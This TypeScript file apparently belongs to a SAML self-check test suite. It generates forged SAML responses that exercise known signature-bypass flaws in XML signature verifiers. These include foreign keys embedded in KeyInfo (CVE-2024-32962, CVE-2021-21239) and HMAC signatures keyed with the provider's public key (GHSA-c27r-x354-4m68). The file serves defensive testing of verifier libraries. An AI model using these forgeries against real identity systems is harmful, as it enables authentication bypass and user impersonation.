import { createHmac, createPublicKey, type KeyObject } from 'node:crypto';
import type { Case } from '../../../src/selfcheck/cases/case.ts';
import { responseXml, signed, type Kit, type Signing } from '../../../src/selfcheck/model.ts';
import { URI } from '../../../src/selfcheck/signer.ts';
import { attack, forge, SIGNED_INFO } from './attack.ts';

const KEY_INFOS = (kit: Kit): readonly (readonly [what: string, content: string])[] => {
  const der = createPublicKey(kit.foreign.privateKey).export({ format: 'jwk' });
  const certificate = `<ds:X509Data><ds:X509Certificate>${kit.foreign.certificate || 'MIIB'}</ds:X509Certificate></ds:X509Data>`;
  return [
    ['X509Data', certificate],
    [
      'KeyValue',
      `<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>${Buffer.from(der.n ?? '', 'base64url').toString('base64')}</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>`,
    ],
    [
      'RetrievalMethod',
      '<ds:RetrievalMethod URI="http://127.0.0.1:9/key" Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate"/>',
    ],
    ['the provider’s own name', `<ds:KeyName>${kit.facts.provider}</ds:KeyName>`],
    ['two certificates', certificate + certificate],
  ];
};

/** xml-crypto CVE-2024-32962, pysaml2 CVE-2021-21239: the message brings the key that it is verified with. */
const FOREIGN_KEYS = [
  'X509Data',
  'KeyValue',
  'RetrievalMethod',
  'the provider’s own name',
  'two certificates',
].flatMap((what, at) => {
  const signing = (kit: Kit): Signing => ({ key: kit.foreign, keyInfo: KEY_INFOS(kit)[at]?.[1] ?? '' });
  const about = (kit: Kit) => forge(responseXml(kit.facts), kit);
  return [
    attack(`S07 CVE-2024-32962 CVE-2021-21239 the key in KeyInfo: ${what}`, 'S2', (kit) =>
      signed(about(kit), kit, { assertion: signing(kit), response: signing(kit) }),
    ),
    attack(`S07 CVE-2024-32962 CVE-2021-21239 the key in KeyInfo of the Assertion: ${what}`, 'S8', (kit) =>
      signed(about(kit), kit, { assertion: signing(kit), response: false }),
    ),
  ];
});

/** xml-crypto GHSA-c27r-x354-4m68, pysaml2 CVE-2021-21239: the public key taken for a shared secret. */
const HMACS = (['hmac-sha1', 'hmac-sha256', 'hmac-sha512'] as const).flatMap((name) =>
  (['PEM', 'SPKI', 'PKCS#1', 'certificate'] as const).map((form) => {
    const method = name === 'hmac-sha1' ? URI.hmacSha1 : `http://www.w3.org/2001/04/xmldsig-more#${name}`;
    return attack(`S08 GHSA-c27r-x354-4m68 ${name} keyed with the public ${form}`, 'S7', (kit) =>
      signed(forge(responseXml(kit.facts), kit), kit, {
        assertion: {
          signatureMethod: method,
          edit: (s) =>
            s.replace(
              /(<ds:SignatureValue>)[^<]*/,
              (_, tag) => `${tag}${mac(name.slice(5), secret(kit, form), s)}`,
            ),
        },
        response: false,
      }),
    );
  }),
);

function secret(kit: Kit, form: 'PEM' | 'SPKI' | 'PKCS#1' | 'certificate'): string | Buffer {
  const key: KeyObject = createPublicKey(kit.key.privateKey);
  if (form === 'PEM') return key.export({ format: 'pem', type: 'spki' });
  if (form === 'SPKI') return key.export({ format: 'der', type: 'spki' });
  return form === 'PKCS#1'
    ? key.export({ format: 'der', type: 'pkcs1' })
    : Buffer.from(kit.key.certificate, 'base64');
}

const mac = (hash: string, key: string | Buffer, signature: string) =>
  createHmac(hash, key)
    .update(
      SIGNED_INFO.exec(signature)?.[0].replace(
        '<ds:SignedInfo>',
        '<ds:SignedInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#">',
      ) ?? '',
    )
    .digest('base64');

export const KEY_ATTACKS: readonly Case[] = [...FOREIGN_KEYS, ...HMACS];
